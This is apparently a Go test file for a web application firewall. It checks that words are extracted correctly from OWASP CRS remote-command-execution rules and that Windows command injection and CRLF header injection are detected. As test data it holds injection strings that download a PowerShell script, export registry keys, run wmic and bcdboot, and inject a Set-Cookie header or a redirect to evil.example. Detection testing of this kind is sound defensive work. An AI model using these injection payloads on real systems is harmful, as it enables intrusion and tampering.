package waf

import "testing"

// TestCRSRuleWords checks that the vocabularies the CRS keeps only inside
// 932125/932370/932380 are read back out whole: a broken walk of the
// patterns loses words (regedit, bcdboot) or returns fragments of them.
func TestCRSRuleWords(t *testing.T) {
	const file = "REQUEST-932-APPLICATION-ATTACK-RCE.conf"
	for _, tt := range []struct {
		id   int
		min  int
		want []string
		not  []string
	}{
		{932125, 80, []string{"iwr", "iex", "icm", "gwmi", "ft", "sc"}, []string{"w", "i"}},
		{932370, 150, []string{"regedit", "regsvcs", "certoc", "mshta", "winrm", "wuauclt"}, []string{"edit", "svcs"}},
		{932380, 180, []string{"bcdboot", "bootcfg", "wdsutil", "auditpol", "typeperf"}, []string{"boot", "padmi"}},
	} {
		got := map[string]bool{}
		for _, w := range crsRuleWords(file, tt.id) {
			got[w] = true
		}
		if len(got) < tt.min {
			t.Errorf("%d: got %d words, want at least %d", tt.id, len(got), tt.min)
		}
		for _, w := range tt.want {
			if !got[w] {
				t.Errorf("%d: %q missing", tt.id, w)
			}
		}
		for _, w := range tt.not {
			if got[w] {
				t.Errorf("%d: got the fragment %q", tt.id, w)
			}
		}
	}
}

// TestWindowsVocabulary: the commands of the removed CRS rules are shell
// commands to waf.cmdi where a shell runs them, and code that begins lines
// with the same letters (Go's "sc.check()", "ft := sf.Type", Markdown's
// "`cmd/compile/internal/ir`") is not.
func TestWindowsVocabulary(t *testing.T) {
	for _, tt := range []struct {
		v    string
		want bool
	}{
		{";iwr http://example.com/path/file.ps1", true},
		{"; regedit /E c:\\ads\\file.txt:regfile.reg HKEY_CURRENT_USER\\MyCustom", true},
		{"|bcdboot /r file.txt", true},
		{"x && wmic process list", true},
		{"sc.framer = fr\n\n\tif tc, ok := c.(http2connectionStater); ok {\n\t\tsc.tlsState = new(tls.ConnectionState)", false},
		{"index[len(f.index)] = i\n\n\t\t\t\tft := sf.Type\n\t\t\t\tif ft.Name() == \"\" {", false},
		{"* `cmd/compile/internal/types` (compiler types)\n* `cmd/compile/internal/ir` (compiler AST)", false},
		{"header.Add(name, v)\n\t}\n\tif rp.Authority == \"\" {\n\t\trp.Authority = header.Get(\"Host\")", false},
	} {
		cs := charsetOf(tt.v)
		if got := detectShell(tt.v, gates(tt.v), &cs); got != tt.want {
			t.Errorf("detectShell(%q): got %v, want %v", tt.v, got, tt.want)
		}
	}
}

// TestBase64FormStyle: form-style percent-encoding inside a base64 value
// is read with its '+' as spaces, as when the same text arrives plain.
func TestBase64FormStyle(t *testing.T) {
	// base64 of "$%26%26dir+c:%2f"
	got := Variants(nil, "JCUyNiUyNmRpcitjOiUyZg==", false)
	for _, v := range got {
		if v == "$&&dir c:/" {
			return
		}
	}
	t.Errorf("got variants %q, want \"$&&dir c:/\" among them", got)
}

// TestCRLFHeaderStartsTheLine: a header injected after a line break sets
// a field only when its name starts the line; an indented line is a
// continuation (obs-fold), as in every indented code snippet.
func TestCRLFHeaderStartsTheLine(t *testing.T) {
	for _, tt := range []struct {
		v    string
		want bool
	}{
		{"/\r\nSet-Cookie: crlf=injection", true},
		{"x\n\nLocation: https://evil.example", true},
		{"return mux.handler(r.Host, r.URL.Path)\n\t}\n\n\thost := stripHostPort(r.Host)", false},
	} {
		if got := crlfHeader.MatchString(tt.v); got != tt.want {
			t.Errorf("crlfHeader(%q): got %v, want %v", tt.v, got, tt.want)
		}
	}
}
